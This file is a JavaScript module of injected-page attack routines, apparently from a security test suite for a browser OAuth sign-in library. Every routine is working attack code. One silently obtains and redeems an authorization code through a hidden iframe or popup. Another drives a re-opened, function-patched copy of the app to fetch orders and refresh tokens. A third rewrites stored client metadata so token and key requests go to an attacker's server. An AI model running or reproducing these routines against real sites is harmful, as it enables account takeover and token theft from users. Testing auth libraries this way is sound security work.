// Script that gets itself a grant, or runs the app once more to watch it. All of it runs in the page.

/** Calls `each` with the window time and again, as fast as messages pass: timers would be throttled behind a popup. */
export const watch = (w, each, ms) =>
  new Promise((resolve) => {
    const end = Date.now() + ms;
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = () => {
      let done = false;
      try {
        done = each(w);
      } catch {
        // It is at another origin.
      }
      if (done || Date.now() > end) resolve();
      else port2.postMessage(0);
    };
    port2.postMessage(0);
  });

export const inFrame = (url, sandbox) => {
  const frame = document.createElement("iframe");
  // Its own scripts do not run there, and so nothing takes the answer out of the address.
  if (sandbox) frame.sandbox = sandbox;
  frame.src = url;
  frame.hidden = true;
  document.body.append(frame);
  return frame.contentWindow;
};

export const inPopup = (url) => window.open(url, "", "width=300,height=300");

/** `open` is one of the two above. */
export const ownGrant = async ({ env, tell }, watch, open, mode) => {
  const { issuer, clientId, redirectUri, scope, authorizationParams } = env.config;
  const verifier = env.verifier;
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier));
  const challenge = btoa(String.fromCharCode(...new Uint8Array(digest)))
    .replace(/=+$/, "")
    .replaceAll("+", "-")
    .replaceAll("/", "_");
  const query = new URLSearchParams({
    ...{ client_id: clientId, redirect_uri: redirectUri, scope, response_type: "code" },
    ...{ prompt: "none", state: "evil", nonce: "evil", ...authorizationParams },
    ...{ code_challenge: challenge, code_challenge_method: "S256" },
    ...(mode ? { response_mode: mode } : {}),
  });
  let code = null;
  addEventListener("message", ({ data }) => (code ??= data?.response?.code));
  const look = (w) => {
    const at = mode || w.location.href === "about:blank" ? "" : w.location.search;
    return (code ??= new URLSearchParams(at).get("code"));
  };
  const w = open(`${issuer}/auth?${query}`, mode ? "" : "allow-same-origin");
  await watch(w, look, 20_000);
  const body = new URLSearchParams({
    ...{ grant_type: "authorization_code", client_id: clientId, redirect_uri: redirectUri },
    ...{ code, code_verifier: verifier },
  });
  tell(await (await fetch(`${issuer}/token`, { method: "POST", body })).text());
};

/** The app once more, in a window whose functions are changed before the app's script runs. It is made to work there. */
export const appIn = async ({ env, tell }, watch, open, change) => {
  const changed = new WeakSet();
  let worked = false;
  let signingIn = false;
  const work = async (auth) => {
    tell(await (await auth.fetch(env.orders)).text());
    await auth.refresh();
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    worked = true;
  };
  let working = false;
  const each = (w) => {
    if (w.location.origin !== location.origin) return false;
    if (!changed.has(w.document)) {
      changed.add(w.document);
      change(w);
    }
    const status = w.auth?.state.status;
    if (status === "signedOut" && !signingIn) {
      signingIn = true;
      void w.auth.signIn().catch(() => {});
    }
    if (status === "signedIn" && !working) {
      working = true;
      void work(w.auth).catch(() => (worked = true));
    }
    return worked;
  };
  await watch(open("/"), each, 50_000);
};

/** What is kept for the redirect page names the attacker's server. */
export const signInRecord = (w, { env, replace }) => {
  const { issuer } = env.config;
  const evil = env.attacker;
  const metadata = {
    issuer,
    authorization_endpoint: `${issuer}/auth`,
    token_endpoint: `${evil}/token`,
    jwks_uri: `${evil}/keys`,
    code_challenge_methods_supported: ["S256"],
    response_types_supported: ["code"],
    id_token_signing_alg_values_supported: ["RS256"],
    subject_types_supported: ["public"],
    authorization_response_iss_parameter_supported: true,
  };
  const { parse, stringify } = JSON;
  replace(
    w.Storage.prototype,
    "setItem",
    (original) =>
      function (key, value) {
        let text = value.replaceAll(`${issuer}/token`, `${evil}/token`);
        if (key.startsWith("keyward.client.")) text = stringify({ ...parse(text), metadata });
        return original.call(this, key, text);
      },
  );
  w.localStorage.setItem("leaky.token", `${evil}/token`);
};
